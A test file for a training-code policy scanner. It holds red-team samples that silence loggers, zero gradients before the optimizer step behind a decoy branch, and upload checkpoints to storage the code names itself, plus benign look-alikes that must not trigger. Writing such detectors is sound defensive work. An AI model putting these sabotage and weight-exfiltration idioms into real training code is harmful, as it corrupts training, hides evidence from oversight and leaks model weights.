"""Three misses of the rule pack (issue #16, session 10).

A red-team pass got these through with no finding: one logger of the training
stack silenced instead of the whole process (``persist-logging-disable`` knew
only ``logging.disable`` and the root logger); an unconditional ``zero_grad()``
between ``backward()`` and ``step()`` hidden by a decoy ``if`` beside it
(semgrep sequences ignore control flow, and the rule's skip-branch exclusion
covered the whole range); and checkpoints uploaded to an S3 bucket, a GCS
bucket or a Hub repository the code names itself (``egress-storage-upload``,
new). Each attack is a file of its own holding only what it needs, so the
rules' whole-file anchors are tested too; the look-alikes are the idioms real
training code uses and must stay quiet. One ``traingate check`` by a second
author shows the three block a change end to end.
"""

from __future__ import annotations

import contextlib
import io
import json
from typing import Any

from traingate.cli import main

from .conftest import POLICY, Repo
from .test_rule_anchors import case_tests

RULES = {
    "persist-logging-disable": "persistence-antiforensics",
    "sabotage-step-learns-nothing": "training-sabotage",
    "egress-storage-upload": "network-egress",
}

# file name -> source; `ruleid: <id>` in a comment marks the next line.
ATTACKS = {
    # Only `.disabled =`: no setLevel, disable or handlers in the file.
    "logger_disabled.py": """
import logging

# ruleid: persist-logging-disable
logging.getLogger("torch.distributed").disabled = True
""",
    "logger_bound_level.py": """
import logging


def setup():
    ds = logging.getLogger("deepspeed")
    # ruleid: persist-logging-disable
    ds.level = 100
""",
    # Cut off with a NullHandler: `.propagate =` is the only anchor word.
    "logger_cut_off.py": """
import logging

audit = logging.getLogger("mlflow")
# ruleid: persist-logging-disable
audit.propagate = False
audit.addHandler(logging.NullHandler())
""",
    "logger_filter.py": """
import logging

# ruleid: persist-logging-disable
logging.getLogger("py.warnings").addFilter(lambda record: False)
""",
    "verbosity.py": """
from transformers.utils import logging as hf_logging

# ruleid: persist-logging-disable
hf_logging.set_verbosity(hf_logging.CRITICAL + 1)
""",
    # The decoy: a skip branch before the unconditional zero_grad.
    "decoy_skip.py": """
import torch


def train(model, loader, opt):
    for batch in loader:
        loss = model(**batch).loss
        loss.backward()
        if not torch.isfinite(loss):
            opt.zero_grad()
            continue
        # ruleid: sabotage-step-learns-nothing
        opt.zero_grad()
        opt.step()
""",
    "decoy_after.py": """
def train(model, batch, opt, debug):
    loss = model(**batch).loss
    loss.backward()
    # ruleid: sabotage-step-learns-nothing
    opt.zero_grad(set_to_none=True)
    if debug:
        opt.zero_grad()
    opt.step()
""",
    "module_zero_grad.py": """
def train(model, batch, optimizer):
    loss = model(**batch).loss
    # ruleid: sabotage-step-learns-nothing
    loss.backward()
    model.zero_grad()
    optimizer.step()
""",
    "s3_literal_bucket.py": """
import boto3


def on_save(ckpt, step):
    # ruleid: egress-storage-upload
    boto3.client("s3").upload_file(ckpt, "ml-backup-4471", f"run/{step}.pt")
""",
    # The repository id in a module constant: constant propagation.
    "hub_constant_repo.py": """
from huggingface_hub import HfApi

DEST = "mallory/snapshots"


def on_save(out_dir):
    # ruleid: egress-storage-upload
    HfApi().upload_folder(repo_id=DEST, folder_path=out_dir)
""",
    "gcs_bound_blob.py": """
from google.cloud import storage


def on_save(ckpt):
    blob = storage.Client().bucket("tmp-share-88").blob("w.pt")
    # ruleid: egress-storage-upload
    blob.upload_from_filename(ckpt)
""",
    "fsspec_put.py": """
import s3fs


def on_save(ckpt):
    # ruleid: egress-storage-upload
    s3fs.S3FileSystem().put(ckpt, "s3://ml-backup-4471/w.pt")
""",
}

# The look-alikes a training repository has: each must stay quiet.
QUIET = {
    "ok_logging.py": """
import logging

import transformers

logging.getLogger("urllib3").setLevel(logging.WARNING)
logging.getLogger("torch.distributed").setLevel(logging.ERROR)
logging.getLogger("deepspeed").setLevel(logging.CRITICAL)
transformers.logging.set_verbosity_error()
# litgpt: a private module's per-save profiling output
logging.getLogger("torch.distributed.fsdp._optim_utils").disabled = True
logging.getLogger("filelock").disabled = True
_logger = logging.getLogger("lightning.pytorch")
_logger.addHandler(logging.StreamHandler())
_logger.propagate = False
""",
    "ok_step.py": """
import torch
import torch.nn.functional as F


def train(model, teacher, loader, opt, scheduler):
    for i, batch in enumerate(loader):
        loss = F.mse_loss(model(**batch).logits, teacher(**batch).logits.detach()) / 4
        loss.backward()
        if not torch.isfinite(loss):
            opt.zero_grad()
            continue
        if (i + 1) % 4 == 0:
            opt.step()
            opt.zero_grad()
            scheduler.step()


def gan(netD, netG, optD, optG, real, fake):
    netD.zero_grad()
    errD = netD(real).mean() - netD(fake.detach()).mean()
    errD.backward()
    optD.step()
    netG.zero_grad()
    errG = -netD(fake).mean()
    errG.backward()
    optG.step()
""",
    "ok_upload.py": """
import boto3
from huggingface_hub import HfApi


def save(args, cfg, trainer, model, ckpt, key, out_dir):
    boto3.client("s3").upload_file(ckpt, cfg.checkpoint_bucket, key)
    HfApi().upload_folder(repo_id=args.hub_model_id, folder_path=out_dir)
    trainer.push_to_hub(dataset_name=args.dataset_name)
    model.push_to_hub(f"{args.hub_org}/{args.run_name}")
    boto3.client("s3").download_file("public-datasets", "c4/shard-0.json", "/data/shard-0.json")
""",
}


findings, test_attack_is_found, test_look_alike_is_quiet = case_tests(
    "session10", ATTACKS, QUIET, RULES
)


def test_a_change_silencing_and_uploading_blocks(repo: Repo) -> None:
    """The red-team change, by a second author, through the CLI."""
    repo.write(".traingate.yaml", POLICY)
    repo.write("train/__init__.py", "")
    repo.commit("base")
    repo.branch("feature")
    repo.write("train/quiet.py", ATTACKS["logger_disabled.py"].lstrip("\n"))
    repo.write("train/loop.py", ATTACKS["decoy_skip.py"].lstrip("\n"))
    repo.write("train/sync.py", ATTACKS["s3_literal_bucket.py"].lstrip("\n"))
    repo.commit("quieter logs, checkpoint sync", who="mallory")
    out = repo.path.parent / "r.json"
    argv = ["check", "--repo", str(repo.path), "--base", "main", "--head", "feature"]
    with contextlib.redirect_stdout(io.StringIO()):
        code = main([*argv, "--format", "json", "--output", str(out)])
    report: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    got = {(f["path"], f["rule_id"], f["line"], f["blocking"]) for f in report["findings"]}
    assert {
        ("train/quiet.py", "persist-logging-disable", 4, True),
        ("train/loop.py", "sabotage-step-learns-nothing", 12, True),
        ("train/sync.py", "egress-storage-upload", 6, True),
    } <= got
    assert code == 1
